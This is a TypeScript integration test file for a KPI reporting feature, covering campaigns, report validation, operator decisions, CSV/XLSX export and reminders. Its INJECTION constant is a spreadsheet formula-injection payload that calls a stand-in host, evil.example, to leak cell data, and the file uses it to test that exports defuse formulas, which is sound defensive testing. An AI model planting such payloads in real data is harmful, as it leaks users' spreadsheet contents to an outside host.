import { and, eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { clusterLocal } from "../../../shared/clock.js";
import { auditLog } from "../../core/audit.schema.js";
import { expectProblem, fieldErrors } from "../../test/assert.js";
import { type Client, createUser, signedIn, testAppForFile } from "../../test/helpers.js";
import { notifications } from "../notifications/notifications.schema.js";
import { orgWithTeam } from "../organizations/organizations.fixtures.js";
import { sendKpiReminders } from "./reporting.reminders.js";

const t = testAppForFile();
let op: Client;
let op2: Client;
let stranger: Client;
let alpha: Awaited<ReturnType<typeof orgWithTeam>>;
let beta: Awaited<ReturnType<typeof orgWithTeam>>;
let outsider: Awaited<ReturnType<typeof orgWithTeam>>;

type Report = {
  id: string;
  state: string;
  version: number;
  revenue: number | null;
  headcount: number | null;
  warnings: string[];
  returnReason: string | null;
  submittedAt: string | null;
  organization: { id: string; shortName: string };
  campaign: { id: string; year: number };
  me: { fill: boolean; decide: boolean };
};
type Campaign = {
  id: string;
  year: number;
  titleRu: string;
  version: number;
  dueLocal: string;
  total: number;
  counts: Record<string, number>;
};

const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")';
const DAY = 24 * 3600_000;

async function ok<T>(res: Promise<{ statusCode: number; body: string; json(): unknown }>, status = 200) {
  const r = await res;
  expect(r.statusCode, r.body).toBe(status);
  return r.json() as T;
}

/** A Moscow local time `days` from now, at 18:00. */
const dueIn = (days: number) => `${clusterLocal(new Date(Date.now() + days * DAY)).slice(0, 10)}T18:00`;

const figures = {
  revenue: 120_000_000,
  headcount: 42,
  rndSpending: 18_500_000,
  exportRevenue: 9_000_000,
  patentsFiled: 3,
};

const open = (year: number, days = 200) =>
  ok<Campaign>(op.post("/api/operator/kpi-campaigns", { year, dueAt: dueIn(days) }), 201);

async function reportOf(c: Client, year: number, orgId: string) {
  const mine = await ok<{ items: Report[] }>(c.get("/api/kpi-reports/mine"));
  return mine.items.find((r) => r.campaign.year === year && r.organization.id === orgId);
}

const noticesOf = async (userId: string, kind: string) =>
  (
    await t.database.db
      .select()
      .from(notifications)
      .where(and(eq(notifications.userId, userId), eq(notifications.kind, kind)))
  ).length;

beforeAll(async () => {
  const [o1, o2, u] = await Promise.all([
    createUser(t.database, { role: "operator" }),
    createUser(t.database, { role: "operator" }),
    createUser(t.database),
  ]);
  [op, op2, stranger] = await Promise.all([signedIn(t, o1), signedIn(t, o2), signedIn(t, u)]);
  alpha = await orgWithTeam(t, { status: "participant", shortName: "ООО «Альфа-Сенсор»" });
  beta = await orgWithTeam(t, { status: "participant", shortName: INJECTION });
  outsider = await orgWithTeam(t, { shortName: "ООО «Не участник»" });
});

describe("campaigns", () => {
  it("the operator opens one campaign a year for the participants at that moment; others may not", async () => {
    expectProblem(
      await alpha.ownerC.post("/api/operator/kpi-campaigns", { year: 2021, dueAt: dueIn(30) }),
      403,
    );
    const past = expectProblem(
      await op.post("/api/operator/kpi-campaigns", { year: 2021, dueAt: "2020-01-10T18:00" }),
      400,
      "validation",
    );
    expect(fieldErrors(past).dueAt).toBe("Срок сдачи должен быть в будущем");
    const c = await open(2021);
    expect(c).toMatchObject({
      year: 2021,
      titleRu: "Отчётность участников кластера за 2021 год",
      counts: { not_started: 2, draft: 0, submitted: 0 },
      total: 2,
    });
    expectProblem(
      await op.post("/api/operator/kpi-campaigns", { year: 2021, dueAt: dueIn(30) }),
      409,
      "kpi-campaign-exists",
    );
    // Told: the participants' owners and admins, not their plain members.
    expect(await noticesOf(alpha.owner.id, "kpi.opened")).toBe(1);
    expect(await noticesOf(alpha.member.id, "kpi.opened")).toBe(0);
    // A participant from now on is not obliged by the open campaign.
    const late = await orgWithTeam(t, { status: "participant" });
    expect(await reportOf(late.ownerC, 2021, late.org.id)).toBeUndefined();
    expect((await ok<Campaign>(op.get(`/api/operator/kpi-campaigns/${c.id}`))).total).toBe(2);

    // The due moment moves at the version seen; a stale one is 409 with the campaign now.
    const moved = await ok<Campaign>(
      op.patch(`/api/operator/kpi-campaigns/${c.id}`, { dueAt: dueIn(210), version: 1 }),
    );
    expect(moved).toMatchObject({ version: 2, dueLocal: dueIn(210) });
    const stale = expectProblem(
      await op2.patch(`/api/operator/kpi-campaigns/${c.id}`, { dueAt: dueIn(220), version: 1 }),
      409,
      "kpi-campaign-changed",
    );
    expect(stale.current).toMatchObject({ version: 2, dueLocal: dueIn(210) });
  });
});

describe("reports", () => {
  it("only an obliged organization's people see its report (404 otherwise); its owner or admin fills it", async () => {
    await open(2022);
    const r = (await reportOf(alpha.ownerC, 2022, alpha.org.id))!;
    expect(r).toMatchObject({ state: "not_started", me: { fill: true } });
    expect(await reportOf(outsider.ownerC, 2022, alpha.org.id)).toBeUndefined();
    expect((await ok<{ items: Report[] }>(outsider.ownerC.get("/api/kpi-reports/mine"))).items).toEqual([]);
    expectProblem(await outsider.ownerC.get(`/api/kpi-reports/${r.id}`), 404);
    expectProblem(await stranger.put(`/api/kpi-reports/${r.id}`, { ...figures, version: 1 }), 404);
    expectProblem(await beta.ownerC.get(`/api/kpi-reports/${r.id}`), 404);
    // A plain member reads it but does not fill it.
    expect((await ok<Report>(alpha.memberC.get(`/api/kpi-reports/${r.id}`))).me.fill).toBe(false);
    expectProblem(await alpha.memberC.put(`/api/kpi-reports/${r.id}`, { ...figures, version: 1 }), 404);
    expect(
      await ok<Report>(alpha.adminC.put(`/api/kpi-reports/${r.id}`, { revenue: 5_000_000, version: 1 })),
    ).toMatchObject({ state: "draft", revenue: 5_000_000, headcount: null, version: 2 });
  });

  it("refuses bad figures with every field's message in the reader's language; R&D above revenue is a warning", async () => {
    await open(2023);
    const r = (await reportOf(alpha.ownerC, 2023, alpha.org.id))!;
    const bad = { revenue: 10_000, headcount: 12.5, rndSpending: -1, exportRevenue: 20_000, version: 1 };
    const ru = fieldErrors(
      expectProblem(await alpha.ownerC.put(`/api/kpi-reports/${r.id}`, bad), 400, "validation"),
    );
    expect(ru).toEqual({
      headcount: "Введите целое число",
      rndSpending: "Значение не может быть отрицательным",
      exportRevenue: "Экспортная выручка входит в общую выручку и не может её превышать",
    });
    const en = fieldErrors(expectProblem(await alpha.adminC.put(`/api/kpi-reports/${r.id}`, bad), 400));
    expect(en.exportRevenue).toBe("Export revenue is part of the revenue and cannot exceed it");
    // Submitting needs every figure.
    const missing = fieldErrors(
      expectProblem(
        await alpha.ownerC.post(`/api/kpi-reports/${r.id}/submit`, { revenue: 1_000_000, version: 1 }),
        400,
      ),
    );
    expect(Object.keys(missing).sort()).toEqual([
      "exportRevenue",
      "headcount",
      "patentsFiled",
      "rndSpending",
    ]);
    expect(missing.headcount).toBe("Заполните показатель перед отправкой отчёта");
    // R&D above the revenue is accepted and flagged.
    const warned = await ok<Report>(
      alpha.ownerC.put(`/api/kpi-reports/${r.id}`, {
        ...figures,
        revenue: 1_000_000,
        exportRevenue: 0,
        version: 1,
      }),
    );
    expect(warned.warnings).toEqual(["rnd-above-revenue"]);
  });

  it("submit → read-only; return with a reason → fixed and resubmitted → accepted; the organization is told", async () => {
    const c = await open(2024);
    const r = (await reportOf(alpha.ownerC, 2024, alpha.org.id))!;
    const sent = await ok<Report>(
      alpha.ownerC.post(`/api/kpi-reports/${r.id}/submit`, { ...figures, version: 1 }),
    );
    expect(sent).toMatchObject({ state: "submitted", me: { fill: false } });
    expect(sent.submittedAt).not.toBeNull();
    const locked = expectProblem(
      await alpha.ownerC.put(`/api/kpi-reports/${r.id}`, { ...figures, version: sent.version }),
      409,
      "kpi-report-changed",
    );
    expect(locked.current).toMatchObject({ state: "submitted" });
    // The operator's table: filters by state.
    const queue = (await op.get("/api/desk")).json() as {
      queues: { key: string; count: number; oldest: { id: string; title: string } | null }[];
    };
    expect(queue.queues.find((q) => q.key === "kpi")).toMatchObject({
      count: 1,
      oldest: { id: c.id, title: "ООО «Альфа-Сенсор»" },
    });
    const table = await ok<{ items: Report[]; total: number }>(
      op.get(`/api/operator/kpi-campaigns/${c.id}/reports?state=submitted`),
    );
    expect(table.items.map((i) => i.organization.id)).toEqual([alpha.org.id]);
    expect(table.items[0]!.me.decide).toBe(true);

    const noReason = expectProblem(
      await op.post(`/api/operator/kpi-reports/${r.id}/decision`, {
        decision: "return",
        version: sent.version,
      }),
      400,
    );
    expect(fieldErrors(noReason).reason).toBe("Укажите, что нужно исправить или дополнить");
    expectProblem(
      await alpha.ownerC.post(`/api/operator/kpi-reports/${r.id}/decision`, {
        decision: "accept",
        version: 3,
      }),
      403,
    );
    const reason = "Экспортная выручка не подтверждена: уточните её по данным бухгалтерской отчётности.";
    const back = await ok<Report>(
      op.post(`/api/operator/kpi-reports/${r.id}/decision`, {
        decision: "return",
        reason,
        version: sent.version,
      }),
    );
    expect(back).toMatchObject({ state: "returned", returnReason: reason });
    expect(await noticesOf(alpha.owner.id, "kpi.returned")).toBe(1);
    expect(await noticesOf(alpha.admin.id, "kpi.returned")).toBe(1);

    const fixed = await ok<Report>(
      alpha.adminC.put(`/api/kpi-reports/${r.id}`, {
        ...figures,
        exportRevenue: 7_500_000,
        version: back.version,
      }),
    );
    expect(fixed).toMatchObject({ state: "returned", me: { fill: true } });
    const again = await ok<Report>(
      alpha.adminC.post(`/api/kpi-reports/${r.id}/submit`, {
        ...figures,
        exportRevenue: 7_500_000,
        version: fixed.version,
      }),
    );
    expect(again.state).toBe("submitted");
    const accepted = await ok<Report>(
      op.post(`/api/operator/kpi-reports/${r.id}/decision`, { decision: "accept", version: again.version }),
    );
    expect(accepted).toMatchObject({ state: "accepted", returnReason: null });
    // The desk counts the operator's decisions of the day in the reports' queue.
    const desk = (await op.get("/api/desk")).json() as {
      today: { byQueue: { queue: string; mine: number }[] };
    };
    expect(desk.today.byQueue.find((q) => q.queue === "kpi")?.mine).toBe(2);
    expect(await noticesOf(alpha.owner.id, "kpi.accepted")).toBe(1);
    const audited = await t.database.db.select().from(auditLog).where(eq(auditLog.entityId, r.id));
    expect(audited.map((a) => a.action)).toEqual(
      expect.arrayContaining([
        "kpi.report_submit",
        "kpi.report_return",
        "kpi.report_save",
        "kpi.report_accept",
      ]),
    );
  });

  it("two operators deciding at once: one wins, the other gets 409 with the report now", async () => {
    await open(2019);
    const r = (await reportOf(beta.ownerC, 2019, beta.org.id))!;
    const sent = await ok<Report>(
      beta.ownerC.post(`/api/kpi-reports/${r.id}/submit`, { ...figures, version: 1 }),
    );
    const [a, b] = await Promise.all([
      op.post(`/api/operator/kpi-reports/${r.id}/decision`, { decision: "accept", version: sent.version }),
      op2.post(`/api/operator/kpi-reports/${r.id}/decision`, {
        decision: "return",
        reason: "Не хватает данных",
        version: sent.version,
      }),
    ]);
    expect([a.statusCode, b.statusCode].sort()).toEqual([200, 409]);
    const loser = a.statusCode === 409 ? a : b;
    const winner = a.statusCode === 200 ? a : b;
    expect(expectProblem(loser, 409, "kpi-report-changed").current).toMatchObject({
      state: (winner.json() as Report).state,
    });
  });
});

describe("export", () => {
  it("CSV for Excel (BOM, ';', formulas defused) and XLSX (texts as text, figures as numbers)", async () => {
    const c = await open(2018);
    const r = (await reportOf(beta.ownerC, 2018, beta.org.id))!;
    await ok(beta.ownerC.post(`/api/kpi-reports/${r.id}/submit`, { ...figures, version: 1 }));
    expectProblem(await alpha.ownerC.get(`/api/operator/kpi-campaigns/${c.id}/export`), 403);

    const csv = await op.get(`/api/operator/kpi-campaigns/${c.id}/export?format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(String(csv.headers["content-type"])).toMatch(/^text\/csv/);
    expect(String(csv.headers["content-disposition"])).toContain("kpi-2018.csv");
    expect(csv.body.startsWith("\uFEFF")).toBe(true);
    const lines = csv.body.slice(1).split("\r\n");
    expect(lines[0]).toBe(
      "Организация;ИНН;Состояние;Сдан (МСК);Выручка, руб.;Среднесписочная численность, чел.;Расходы на НИОКР, руб.;Экспортная выручка, руб.;Подано заявок на патенты;Требует проверки;Причина возврата",
    );
    const injected = lines.find((l) => l.includes("HYPERLINK"))!;
    expect(injected.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(injected).toContain(";Сдан;");
    expect(injected).toContain(";120000000;42;18500000;9000000;3;");
    expect(lines.some((l) => l.startsWith("ООО «Альфа-Сенсор»;") && l.includes(";Не начат;"))).toBe(true);

    const xlsx = await op.get(`/api/operator/kpi-campaigns/${c.id}/export?format=xlsx&state=submitted`);
    expect(xlsx.statusCode).toBe(200);
    expect(String(xlsx.headers["content-type"])).toContain("spreadsheetml");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.name).toBe("Отчёты за 2018 год");
    expect(ws.rowCount).toBe(2);
    const name = ws.getRow(2).getCell(1);
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(INJECTION);
    expect(ws.getRow(2).getCell(5).value).toBe(120_000_000);
  });
});

describe("reminders", () => {
  it("14 and 3 days before and the day after, once per report and due day, to those not submitted", async () => {
    const c = await open(2017, 20);
    const r = (await reportOf(beta.ownerC, 2017, beta.org.id))!;
    await ok(beta.ownerC.post(`/api/kpi-reports/${r.id}/submit`, { ...figures, version: 1 }));
    const due = new Date(Date.now() + 20 * DAY);
    const at = (days: number) => new Date(due.getTime() + days * DAY);
    const run = (days: number) => sendKpiReminders(t.database.db, t.config.publicUrl, at(days));
    const told = () => noticesOf(alpha.owner.id, "kpi.reminder");
    const base = await told();

    expect((await run(-16)).d14).toBe(0);
    // alpha and the participant that joined after the first campaign; beta has submitted.
    expect((await run(-10)).d14).toBe(2);
    expect((await run(-10)).d14).toBe(0);
    expect(await told()).toBe(base + 1);
    expect(await noticesOf(beta.owner.id, "kpi.reminder")).toBe(0);
    expect(await noticesOf(alpha.member.id, "kpi.reminder")).toBe(0);
    expect((await run(-2)).d3).toBe(2);
    const latest = (await alpha.ownerC.get("/api/notifications")).json() as {
      items: { kind: string; title: string; link: string | null }[];
    };
    expect(latest.items[0]).toMatchObject({
      kind: "kpi.reminder",
      title: `Сдайте отчёт за 2017 год до ${dueIn(20).slice(8, 10)}.${dueIn(20).slice(5, 7)}.${dueIn(20).slice(0, 4)} 18:00 (МСК)`,
      link: expect.stringMatching(/^\/cabinet\/reports\//),
    });
    expect((await run(-1)).d3).toBe(0);
    expect((await run(1)).overdue).toBe(2);
    expect((await run(2)).overdue).toBe(0);
    expect(await told()).toBe(base + 3);

    // A moved due day reminds again.
    const now = await ok<Campaign>(op.get(`/api/operator/kpi-campaigns/${c.id}`));
    await ok(op.patch(`/api/operator/kpi-campaigns/${c.id}`, { dueAt: dueIn(25), version: now.version }));
    expect(
      (await sendKpiReminders(t.database.db, t.config.publicUrl, new Date(Date.now() + 23 * DAY))).d3,
    ).toBe(2);
  });
});

describe("cabinet", () => {
  it("lists the reports still to submit of the member's organizations", async () => {
    const cab = await ok<{ kpiReports: { year: number; fill: boolean }[] }>(alpha.ownerC.get("/api/cabinet"));
    expect(cab.kpiReports.every((k) => k.fill)).toBe(true);
    const member = await ok<{ kpiReports: { year: number; fill: boolean }[] }>(
      alpha.memberC.get("/api/cabinet"),
    );
    expect(member.kpiReports.length).toBe(cab.kpiReports.length);
    expect(member.kpiReports.some((k) => k.fill)).toBe(false);
    expect(cab.kpiReports.map((k) => k.year)).toEqual(expect.arrayContaining([2021, 2022]));
    expect(cab.kpiReports.some((k) => k.year === 2024)).toBe(false);
    const other = await ok<{ kpiReports: unknown[] }>(outsider.ownerC.get("/api/cabinet"));
    expect(other.kpiReports).toEqual([]);
  });
});
